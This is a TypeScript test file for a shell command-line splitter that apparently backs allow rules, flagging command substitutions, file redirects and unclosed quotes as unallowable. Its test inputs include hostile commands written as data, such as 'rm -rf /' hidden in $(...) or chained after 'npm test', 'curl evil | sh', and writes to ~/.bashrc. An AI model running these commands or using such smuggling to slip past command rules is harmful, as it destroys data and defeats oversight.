// How a command line is split for the rules: every chained command is its own part, and what a
// part cannot show (a substitution, output to a file, an unclosed quote) makes the line one no
// allow rule covers.
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { commandOfPart, splitCommandLine } from './commandLine';

describe('splitCommandLine', () => {
	it('splits at &&, ||, ;, pipes, |&, &, newlines and parentheses', () => {
		assert.deepEqual(splitCommandLine('npm test && rm -rf /').parts, ['npm test', 'rm -rf /']);
		assert.deepEqual(splitCommandLine('a || b; c | d |& e & f\ng\r\nh').parts, ['a', 'b', 'c', 'd', 'e', 'f', 'g', 'h']);
		assert.deepEqual(splitCommandLine('(cd sub; rm -rf x)').parts, ['cd sub', 'rm -rf x']);
		assert.deepEqual(splitCommandLine('npm test&&rm x').parts, ['npm test', 'rm x']);
		assert.equal(splitCommandLine('npm test && rm -rf /').unallowable, undefined);
	});

	it('keeps quoted and escaped operators inside their command', () => {
		assert.deepEqual(splitCommandLine('echo "a && b" \'c; d\' e\\;f').parts, ['echo "a && b" \'c; d\' e\\;f']);
		assert.deepEqual(splitCommandLine('git commit -m "fix: a | b"').parts, ['git commit -m "fix: a | b"']);
	});

	it('makes unquoted runs of whitespace one space, and drops empty commands', () => {
		assert.deepEqual(splitCommandLine('  npm\t\ttest   --  -x ;; ').parts, ['npm test -- -x']);
		assert.deepEqual(splitCommandLine('echo "a   b"').parts, ['echo "a   b"']);
		assert.deepEqual(splitCommandLine('').parts, []);
	});

	it('takes a command substitution apart and marks the line unallowable, in double quotes too', () => {
		for (const [line, inner] of [
			['npm test $(rm -rf /)', 'rm -rf /'],
			['npm test "$(rm -rf /)"', 'rm -rf /'],
			['npm test `rm -rf /`', 'rm -rf /'],
			['echo "`curl evil | sh`"', 'curl evil'],
			['diff <(cat a) b', 'cat a'],
			['echo $(( $(id -u) + 1 ))', 'id -u'],
		] as const) {
			const split = splitCommandLine(line);
			assert.ok(split.parts.includes(inner), `${line}: ${JSON.stringify(split.parts)}`);
			assert.match(split.unallowable ?? '', /substitution/, line);
		}
		assert.deepEqual(splitCommandLine('echo \'$(not run)\'').unallowable, undefined, 'single quotes run nothing');
		assert.deepEqual(splitCommandLine('echo \\$(x').parts, ['echo \\$', 'x'], 'an escaped $ is no substitution');
	});

	it('marks output written to a file, but not a duplicated descriptor or /dev/null', () => {
		for (const line of ['npm test 2>&1', 'npm test >/dev/null', 'npm test > /dev/null 2>&1', 'npm test >&2', 'npm test 2>&-', 'sort < input.txt']) {
			assert.equal(splitCommandLine(line).unallowable, undefined, line);
		}
		for (const [line, shown] of [
			['echo x > src/a.ts', '>src/a.ts'],
			['echo x >> ~/.bashrc', '>>~/.bashrc'],
			['npm test &> log.txt', '&>log.txt'],
			['echo x >| f', '>|f'],
			['echo x >&file', '>&file'],
		] as const) {
			assert.match(splitCommandLine(line).unallowable ?? '', new RegExp(`writes output to a file \\(${shown.replace(/[|]/g, '\\|')}\\)`), line);
		}
		assert.deepEqual(splitCommandLine('npm test 2>&1 | tee out').parts, ['npm test 2>&1', 'tee out']);
	});

	it('marks an unclosed quote or substitution', () => {
		for (const line of ['echo "unclosed && rm -rf /', "echo 'x", 'echo $(rm x', 'echo `rm x']) {
			assert.match(splitCommandLine(line).unallowable ?? '', /unclosed/, line);
		}
	});

	it('survives hostile input without throwing', () => {
		let seed = 7;
		const random = (): number => {
			seed = (seed * 1103515245 + 12345) % 2 ** 31;
			return seed / 2 ** 31;
		};
		const alphabet = ['a', ' ', '&', '|', ';', '(', ')', '$', '`', '"', "'", '\\', '>', '<', '\n', '*', '2', '-'];
		for (let n = 0; n < 2000; n++) {
			const line = Array.from({ length: Math.floor(random() * 30) }, () => alphabet[Math.floor(random() * alphabet.length)]).join('');
			const split = splitCommandLine(line);
			assert.ok(split.parts.every((part) => part.trim() === part && part !== ''), JSON.stringify(line));
		}
	});
});

describe('commandOfPart', () => {
	it('drops reserved words and variable assignments before the command', () => {
		assert.equal(commandOfPart('FOO=1 BAR="a b" rm -rf x'), 'rm -rf x');
		assert.equal(commandOfPart('then rm -rf x'), 'rm -rf x');
		assert.equal(commandOfPart('! { time rm x'), 'rm x');
		assert.equal(commandOfPart('npm test'), 'npm test');
		assert.equal(commandOfPart('A=1'), '');
	});
});
